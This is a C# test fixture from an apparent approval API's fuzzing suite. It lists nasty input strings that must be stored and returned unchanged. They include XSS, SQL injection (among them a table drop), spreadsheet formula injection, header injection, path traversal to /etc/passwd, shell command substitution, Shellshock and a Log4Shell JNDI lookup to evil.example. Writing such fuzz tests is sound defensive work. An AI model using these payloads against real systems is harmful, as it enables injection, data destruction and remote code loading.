namespace Approval.Api.Tests.Fuzzing;

/// <summary>What people and machines type to see whether something breaks (RELIABILITY 5.7).</summary>
internal static class NastyTexts
{
    /// <summary>Texts that may be stored: they must come back as they are, and do nothing anywhere.</summary>
    public static IReadOnlyList<string> Storable { get; } =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>", "<svg/onload=alert(1)>", "javascript:alert(1)", "{{7*7}}${7*7}<%= 7*7 %>",
        "'; drop table approval.permit_case; --", "' or '1'='1", "%27%20or%201=1", "\\'; select pg_sleep(9); --", "$$;select 1;$$", "a%_b\\", "*)(uid=*))(|(uid=*",
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\tx", "\rx", "＝1+1", "=HYPERLINK(\"http://evil.example\")", "a,b;\"c\"\r\nd",
        "line\r\nSet-Cookie: x=y", "\u001b[31mred", "../../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "CON", "nul.txt",
        "\u202Etxt.exe", "zero\u200Bwidth", "e\u0301 and \u00e9", "\U0001F600\U00020000", "長沙市人防办", "${jndi:ldap://evil.example/a}", "() { :; }; id", "`id`", "$(id)", "| id", "\uFEFFbom", "\u0001\u0002\u007f",
        new string('长', 300),
    ];
}
